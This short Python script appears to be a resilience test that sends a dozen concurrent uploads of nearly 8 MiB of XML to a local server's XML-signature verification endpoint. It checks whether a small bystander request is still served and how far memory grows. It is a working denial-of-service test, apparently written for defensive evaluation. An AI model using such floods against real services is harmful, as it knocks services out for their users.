"""Forms of nearly 8 MiB in a row at the verification, while a bystander has a small file verified."""

from attack import CANARY, Canary, Server, attack_apart, verdict


def form(size):
    return (b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n<a>' + b"<b/>" * (size // 4)
            + b"</a>\r\n--b--\r\n")


SMALL, LARGE = form(4000), form((8 << 20) - 400)
TYPE = {"Content-Type": "multipart/form-data; boundary=b"}
PATH = "/api/v1/verifyXMLDSig"

with Server() as server:
    idle = server.rss
    most = idle

    def call():
        global most
        most = max(most, server.rss)
        return server.request("POST", PATH, SMALL, TYPE, source=CANARY).status == 400

    with Canary(server, call) as canary:
        attack_apart([lambda: server.request("POST", PATH, LARGE, TYPE, timeout=10)] * 12, 8)
    verdict("repository_queue", canary, more_rss_mb=((most - idle) / 1e6, 300))
